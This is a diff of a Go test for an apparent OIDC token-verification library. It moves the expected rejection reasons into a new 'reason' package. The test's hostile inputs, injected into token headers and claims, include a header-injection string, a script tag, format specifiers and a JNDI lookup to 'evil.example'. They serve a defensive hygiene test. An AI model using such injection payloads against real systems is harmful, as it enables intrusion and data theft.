@@ -11,6 +11,7 @@ import (
 
 	"github.com/knownbearer/knownbearer/claims"
 	"github.com/knownbearer/knownbearer/oidcauth"
+	"github.com/knownbearer/knownbearer/oidcauth/reason"
 	"github.com/knownbearer/knownbearer/usermap"
 )
 
@@ -19,14 +20,14 @@ func TestVerdictHygiene(t *testing.T) {
 	var out []verdict
 	for _, hostile := range []string{"\r\nSet-Cookie: a=b", "<script>alert(1)</script>", "\x1b[2J", "%s%n%d", "{{.}}x", "${jndi:ldap://evil.example/a}", "\u202e\u2028", "\x00\x00\x00\x00\x00", strings.Repeat("x", 20000)} {
 		out = append(out,
-			verdict{name: "iss " + fmt.Sprintf("%.6q", hostile), claims: obj{"iss": hostile}, want: oidcauth.UnknownIssuer},
-			verdict{name: "kid " + fmt.Sprintf("%.6q", hostile), header: obj{"kid": hostile}, want: oidcauth.KeyNotFound},
-			verdict{name: "alg " + fmt.Sprintf("%.6q", hostile), header: obj{"alg": hostile}, want: oidcauth.AlgorithmRefused},
-			verdict{name: "typ " + fmt.Sprintf("%.6q", hostile), header: obj{"typ": hostile}, want: oidcauth.WrongTokenType},
-			verdict{name: "aud " + fmt.Sprintf("%.6q", hostile), claims: obj{"aud": []string{hostile, hostile}}, want: oidcauth.WrongAudience},
-			verdict{name: "azp " + fmt.Sprintf("%.6q", hostile), claims: obj{"azp": hostile}, config: func(c *oidcauth.Config) { c.Issuers[0].ClientIDs = []string{"a"} }, want: oidcauth.UnauthorizedParty},
-			verdict{name: "jti " + fmt.Sprintf("%.6q", hostile), claims: obj{"jti": hostile, "exp": 1}, want: oidcauth.Expired},
-			verdict{name: "a claim named " + fmt.Sprintf("%.6q", hostile), claims: obj{hostile: 1, "sub": nil}, want: oidcauth.ClaimMissing},
+			verdict{name: "iss " + fmt.Sprintf("%.6q", hostile), claims: obj{"iss": hostile}, want: reason.UnknownIssuer},
+			verdict{name: "kid " + fmt.Sprintf("%.6q", hostile), header: obj{"kid": hostile}, want: reason.KeyNotFound},
+			verdict{name: "alg " + fmt.Sprintf("%.6q", hostile), header: obj{"alg": hostile}, want: reason.AlgorithmRefused},
+			verdict{name: "typ " + fmt.Sprintf("%.6q", hostile), header: obj{"typ": hostile}, want: reason.WrongTokenType},
+			verdict{name: "aud " + fmt.Sprintf("%.6q", hostile), claims: obj{"aud": []string{hostile, hostile}}, want: reason.WrongAudience},
+			verdict{name: "azp " + fmt.Sprintf("%.6q", hostile), claims: obj{"azp": hostile}, config: func(c *oidcauth.Config) { c.Issuers[0].ClientIDs = []string{"a"} }, want: reason.UnauthorizedParty},
+			verdict{name: "jti " + fmt.Sprintf("%.6q", hostile), claims: obj{"jti": hostile, "exp": 1}, want: reason.Expired},
+			verdict{name: "a claim named " + fmt.Sprintf("%.6q", hostile), claims: obj{hostile: 1, "sub": nil}, want: reason.ClaimMissing},
 		)
 	}
 	runVerdicts(t, out)
